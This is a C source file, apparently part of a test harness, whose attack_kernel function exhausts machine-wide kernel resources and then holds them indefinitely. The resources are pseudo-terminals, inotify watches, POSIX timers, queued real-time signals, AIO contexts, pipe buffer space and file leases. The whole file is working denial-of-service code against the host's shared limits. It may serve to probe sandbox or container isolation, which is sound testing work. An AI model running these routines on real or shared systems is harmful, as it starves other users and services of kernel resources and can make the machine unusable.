/* Taking what the kernel counts for the whole machine, and holding it. */
#include <fcntl.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>

#include "attack.h"

enum { INSTANCES = 64, FILES = 1100 };

static long take_ptys(void)
{
    long count = 0;
    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
        count++;
    return count;
}

/* One of each file in each instance. */
static long take_watches(void)
{
    char path[64];
    long count = 0;
    int notes;
    for (int i = 0; i < INSTANCES && (notes = inotify_init1(0)) >= 0; i++)
        for (int k = 0; k < FILES; k++) {
            snprintf(path, sizeof(path), "/tmp/watched-%d", k);
            if (i == 0)
                close(open(path, O_WRONLY | O_CREAT, 0600));
            if (inotify_add_watch(notes, path, IN_OPEN) < 0)
                return count;
            count++;
        }
    return count;
}

static long take_timers(void)
{
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN};
    timer_t timer;
    long count = 0;
    while (count < 100000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0)
        count++;
    return count;
}

/* Signals that wait, in as many processes as there may be. */
static long take_signals(void)
{
    sigset_t all;
    long count = 0;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    while (count < 100000 && sigqueue(getpid(), SIGRTMIN, (union sigval){0}) == 0)
        count++;
    return count;
}

static long take_events(void)
{
    unsigned long context = 0;
    return syscall(SYS_io_setup, 4096, &context) == 0;
}

static long take_pipe(void)
{
    int ends[2];
    return pipe(ends) == 0 && fcntl(ends[1], F_SETPIPE_SZ, 1 << 20) > 0;
}

static long take_lease(void)
{
    int fd = open("/tmp/leased", O_RDONLY | O_CREAT, 0600);
    return fcntl(fd, F_SETLEASE, F_RDLCK) == 0;
}

static long take_favour(void)
{
    int fd = open("/proc/self/oom_score_adj", O_WRONLY);
    return fd >= 0 && write(fd, "0", 1) == 1;
}

static const struct {
    const char *kind;
    long (*take)(void);
} attacks[] = {
    {"ptys", take_ptys},     {"watches", take_watches}, {"timers", take_timers}, {"signals", take_signals},
    {"events", take_events}, {"pipe", take_pipe},       {"lease", take_lease},   {"favour", take_favour},
};

void attack_kernel(const char *kind)
{
    long count = -1;
    errno = 0;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
        if (strcmp(kind, attacks[i].kind) == 0)
            count = attacks[i].take();
    printf("%s %ld %s\n", kind, count, strerrorname_np(errno));
    fflush(stdout);
    for (;;)
        pause();
}
